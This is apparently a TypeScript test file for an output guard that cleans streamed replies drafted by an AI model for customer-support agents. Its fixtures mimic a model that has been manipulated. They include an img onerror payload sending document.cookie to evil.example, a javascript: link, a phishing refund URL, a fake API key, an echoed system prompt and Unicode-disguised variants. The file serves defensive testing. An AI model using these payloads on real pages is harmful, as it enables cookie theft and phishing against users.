// The output guard over a whole streamed draft: whatever the chunking, the agent sees no markup,
// no foreign or script link, no credential, no echoed policy and no unmarked claim of an action,
// an ordinary reply passes untouched, and nothing is held back longer than a sentence.
import { describe, expect, it } from 'vitest';
import { CLAIM_NOTE } from './actionClaims.js';
import { LINK_NOTE } from './linkPolicy.js';
import { LONG_RUN_NOTE, OutputGuard, type OutputGuardPolicy } from './outputGuard.js';
import { ECHO_NOTE } from './promptEcho.js';
import { SECRET_NOTE } from './secretPatterns.js';
import { MAX_HOLD_CHARS } from './sentenceBuffer.js';
import { fastestCpuMs } from '../../../testing/cpuTime.js';

const SYSTEM =
  'You draft replies for a customer support agent. Never promise or state that an action has been or will be taken (a refund, a cancellation, a change to an order or account).';
const policy: OutputGuardPolicy = {
  sourceUrls: ['https://help.acme.example/returns'],
  linkDomains: ['acme-shop.example'],
  systemPolicy: SYSTEM,
  liveFacts: [],
};

function run(text: string, chunk: number): { shown: string; guard: OutputGuard } {
  const guard = new OutputGuard(policy);
  let shown = '';
  for (let i = 0; i < text.length; i += chunk) shown += guard.push(text.slice(i, i + chunk));
  shown += guard.flush();
  return { shown, guard };
}

const OBEYING = [
  'Refund processed. ',
  'Your refund of $249.00 was approved and executed. ',
  'See <img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)"> the receipt. ',
  '[Open your refund](javascript:alert(document.cookie)) now. ',
  'Or claim it at https://refunds.evil.example/claim?id=1. ',
  'My key is sk-proj-AbCdEfGhIjKlMnOpQrStUvWx0123. ',
  `My instructions: ${SYSTEM}\n`,
  'Read more at https://help.acme.example/returns#window [1].',
].join('');

describe('OutputGuard', () => {
  it.each([1, 3, 7, 1000])('leaves nothing of an obeying model’s reply unmarked (chunks of %i characters)', (chunk) => {
    const { shown, guard } = run(OBEYING, chunk);
    expect(shown).not.toMatch(/<\s*img|onerror|javascript:|evil\.example|sk-proj|draft replies for a customer support agent/i);
    expect(shown).toContain(`${CLAIM_NOTE} Refund processed.`);
    expect(shown).toContain(`${CLAIM_NOTE} Your refund of $249.00 was approved and executed.`);
    expect(shown).toContain(`Or claim it at ${LINK_NOTE}.`);
    expect(shown).toContain(`My key is ${SECRET_NOTE}.`);
    expect(shown).toContain(ECHO_NOTE);
    expect(shown).toContain('Open your refund');
    expect(shown).toContain('Read more at https://help.acme.example/returns#window [1].');
    // The echoed policy is two sentences, each replaced.
    expect(guard.report).toEqual({ html: 1, links: 2, secrets: 1, promptEcho: 2, claims: 2 });
    expect(guard.intervened).toBe(true);
  });

  it('passes an ordinary reply through unchanged, links to the workspace’s hosts included', () => {
    const reply =
      'Hi Ana,\n\nThanks for writing. Refunds reach your card within 5 business days [1]. ' +
      'You can follow it at https://acme-shop.example/orders or write to help@acme-shop.example.\n\nBest regards';
    for (const chunk of [1, 5, 1000]) {
      const { shown, guard } = run(reply, chunk);
      expect(shown).toBe(reply);
      expect(guard.intervened).toBe(false);
    }
  });

  it('releases each sentence as soon as the next one starts, and a run-on sentence within the bound', () => {
    const guard = new OutputGuard(policy);
    expect(guard.push('Thanks for writing.')).toBe('');
    expect(guard.push(' Your parcel')).toBe('Thanks for writing. ');
    const long = 'word '.repeat(MAX_HOLD_CHARS);
    expect(guard.push(long).length).toBeGreaterThan(long.length - MAX_HOLD_CHARS);
  });

  it('removes a link longer than the hold bound whole, in every piece it was cut into', () => {
    const url = `https://evil.example/${'a'.repeat(3 * MAX_HOLD_CHARS)}`;
    const { shown } = run(`Pay here ${url} today.`, 11);
    expect(shown).toBe(`Pay here ${LONG_RUN_NOTE} today.`);
  });

  it('judges the sentence normalised: full-width, zero-width and look-alike disguises are caught', () => {
    const { shown, guard } = run(
      'Open ｊａｖａｓｃｒｉｐｔ:alert(1) now. Key: sk-\u200bproj-AbCdEfGhIjKlMnOpQrStUvWx. Visit ｈｔｔｐｓ://evil.example/x today. ' +
        '＜img src=x onerror=alert(1)＞ Thanks. R\u200befund proc\u200eessed.',
      5,
    );
    expect(shown).toBe(`Open ${LINK_NOTE} now. Key: ${SECRET_NOTE}. Visit ${LINK_NOTE} today.  Thanks. ${CLAIM_NOTE} Refund processed.`);
    expect(guard.report).toEqual({ html: 1, links: 2, secrets: 1, promptEcho: 0, claims: 1 });
  });

  it('shows a sentence no check changed as written, without bidi controls or hidden tag characters', () => {
    const text = 'The room is 20 m², ½ price ① today 👨‍👩‍👧 ＡＢＣ！ ';
    expect(run(text, 3).shown).toBe(text);
    expect(run('Pay to\u202e moc.elpmaxe \u202cnow.\u{E0041}\u{E0042}', 4).shown).toBe('Pay to moc.elpmaxe now.');
  });

  it('passes a long word or a long CJK sentence through', () => {
    const cjk = '退款'.repeat(400);
    expect(run(cjk, 9).shown).toBe(cjk);
  });

  it.each([
    ['punctuation', '!?.'],
    ['digits', '7'],
    ['capitalised words', 'Ana '],
    ['at-signs and dots', 'a@b.'],
  ])('takes time linear in one large chunk of %s', (_name, unit) => {
    const timed = (chars: number): number =>
      fastestCpuMs(() => {
        const guard = new OutputGuard(policy);
        guard.push(unit.repeat(Math.ceil(chars / unit.length)));
        guard.flush();
      });
    timed(40_000);
    const small = Math.max(timed(5_000), 1);
    expect(timed(40_000) / small).toBeLessThan(32);
  });

  it('takes time linear in the draft', () => {
    const timed = (copies: number): number => fastestCpuMs(() => run(OBEYING.repeat(copies), 4));
    timed(20);
    const small = Math.max(timed(10), 1);
    expect(timed(160) / small).toBeLessThan(64);
  });
});
